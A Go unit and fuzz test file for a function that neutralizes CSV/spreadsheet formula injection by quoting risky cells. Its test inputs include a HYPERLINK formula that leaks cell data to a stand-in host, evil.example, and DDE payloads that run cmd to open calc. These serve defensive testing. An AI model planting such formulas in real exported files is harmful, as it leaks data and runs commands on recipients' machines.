package csvcell_test

import (
	"testing"

	"github.com/imarchive/imarchive/internal/csvcell"
)

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"@SUM(1+1)*cmd|' /C calc'!A0":                    "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"'already quoted":                                "''already quoted",
		"-12.5":                                          "-12.5",
		"+3":                                             "+3",
		"1e-5":                                           "1e-5",
		"-1e5":                                           "-1e5",
		"hello = world":                                  "hello = world",
		"你好":                                             "你好",
		"":                                               "",
		"-":                                              "'-",
	} {
		if got := csvcell.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
		if back := csvcell.Restore(csvcell.Neutralize(in)); back != in {
			t.Errorf("Restore(Neutralize(%q)) = %q", in, back)
		}
	}
}

// FuzzNeutralize: Restore undoes Neutralize for every string, and a neutralized cell never begins
// with a character a spreadsheet starts a formula with, unless it is a plain number.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"=1", "@a", "+1", "-1", "-1+1", "\tx", "\rx", "'x", "''", "x", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := csvcell.Neutralize(s)
		if csvcell.Restore(n) != s {
			t.Fatalf("Restore(Neutralize(%q)) = %q", s, csvcell.Restore(n))
		}
		if n == "" {
			return
		}
		switch n[0] {
		case '=', '@', '\t', '\r':
			t.Fatalf("Neutralize(%q) = %q begins a formula", s, n)
		case '+', '-':
			if n != s {
				t.Fatalf("Neutralize(%q) = %q", s, n)
			}
			for _, c := range n[1:] {
				if (c < '0' || c > '9') && c != '.' && c != 'e' && c != 'E' && c != '+' && c != '-' {
					t.Fatalf("Neutralize(%q) = %q: a formula character left as is", s, n)
				}
			}
		}
	})
}
